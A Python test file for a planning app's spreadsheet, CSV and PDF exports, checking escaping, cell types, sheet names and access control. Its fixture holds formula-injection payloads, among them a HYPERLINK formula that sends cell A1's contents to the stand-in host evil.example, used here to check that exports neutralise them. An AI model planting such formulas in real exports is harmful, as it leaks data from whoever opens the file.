"""The plan's tables as XLSX and CSV (pages and API), and the PDF through the API."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from content.models import ThemeType
from core.spreadsheet import BOM, XLSX_CONTENT_TYPE
from kpis.models import Kpi
from planner import plan_data
from tests.content.helpers import campaign
from tests.kpis.trees import small_tree

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_FULL_WIDTH = "＠SUM(1+1)"


@pytest.fixture
def filled(world):
    small_tree(world)
    Kpi.objects.filter(plan=world.plan, code="cac").update(name="\t=1+2")
    campaign(world, name=EVIL, key_message=EVIL_FULL_WIDTH, budget=Decimal("300000.50"))
    return world


def _book(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    return load_workbook(io.BytesIO(response.content))


def _cells(ws):
    return [c for row in ws.iter_rows() for c in row]


def test_section_xlsx_has_one_sheet_per_table_with_typed_and_escaped_cells(filled, client_for):
    response = client_for("viewer").get(f"/plans/{filled.plan.pk}/export/content.xlsx")
    assert response["Content-Disposition"] == (
        'attachment; filename="almanac-2027-annual-plan-content.xlsx"'
    )
    book = _book(response)
    section = plan_data.collect(filled.plan).section("content")
    assert book.sheetnames == [str(t.title) for t in section.tables]
    ws = book["Campaigns"]
    assert ws["A1"].value == "Campaigns" and ws["A2"].font.bold
    header = [c.value for c in ws[2]]
    row = dict(zip(header, ws[3], strict=False))
    assert row["name"].value == "'" + EVIL and row["name"].data_type == "s"
    assert row["key message"].value == "'" + EVIL_FULL_WIDTH
    assert row["planned budget"].data_type == "n"
    assert row["planned budget"].value == pytest.approx(300000.5)
    assert row["planned budget"].number_format == '#,##0.00 "CNY"'
    assert row["start"].is_date
    assert row["theme"].value == str(ThemeType.FESTIVAL.label)  # the choice's label
    assert not [c for c in _cells(ws) if c.data_type == "f"]


def test_section_csv_tables_one_after_another_escaped(filled, client_for):
    response = client_for("viewer").get(f"/plans/{filled.plan.pk}/export/goals.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith('almanac-2027-annual-plan-goals.csv"')
    assert response.content.startswith(BOM.encode())
    text = response.content.decode("utf-8").removeprefix(BOM)
    rows = list(csv.reader(io.StringIO(text)))
    section = plan_data.collect(filled.plan).section("goals")
    titles = [str(t.title) for t in section.tables]
    assert [r[0] for r in rows if len(r) == 1 and r[0] in titles] == titles
    cells = [cell for r in rows for cell in r]
    assert "'\t=1+2" in cells  # the KPI's name, prefixed
    assert "\t=1+2" not in cells


def test_plan_xlsx_has_every_table_with_valid_unique_sheet_names(filled, client_for):
    book = _book(client_for("viewer").get(f"/plans/{filled.plan.pk}/export/plan.xlsx"))
    data = plan_data.collect(filled.plan)
    assert len(book.sheetnames) == sum(len(s.tables) for s in data.sections)
    assert all(len(name) <= 31 for name in book.sheetnames)
    assert len({n.casefold() for n in book.sheetnames}) == len(book.sheetnames)
    for ws in book.worksheets:
        assert not [c for c in _cells(ws) if c.data_type == "f"], ws.title


def test_unknown_section_is_404(world, client_for):
    assert client_for("viewer").get(f"/plans/{world.plan.pk}/export/nope.xlsx").status_code == 404


def test_outsider_gets_404_for_every_export(world, client_for):
    outsider = client_for("outsider")
    for suffix in ("document/", "document.pdf", "export/plan.xlsx", "export/goals.csv"):
        assert outsider.get(f"/plans/{world.plan.pk}/{suffix}").status_code == 404


def test_api_exports_each_type(filled, api_for):
    api = api_for("viewer")
    url = f"/api/v1/plans/{filled.plan.pk}/export/"
    book = _book(api.get(url))
    assert "Campaigns" in book.sheetnames
    csv_body = api.get(url, {"type": "csv", "section": "content"})
    assert csv_body.status_code == 200
    assert ("'" + EVIL).replace('"', '""') in csv_body.content.decode("utf-8")
    pdf = api.get(url, {"type": "pdf"})
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")
    assert api.get(url, {"type": "docx"}).status_code == 400
    assert api.get(url, {"section": "nope"}).status_code == 400
    assert api_for("outsider").get(url).status_code == 404
    assert api_for("anonymous").get(url).status_code == 401
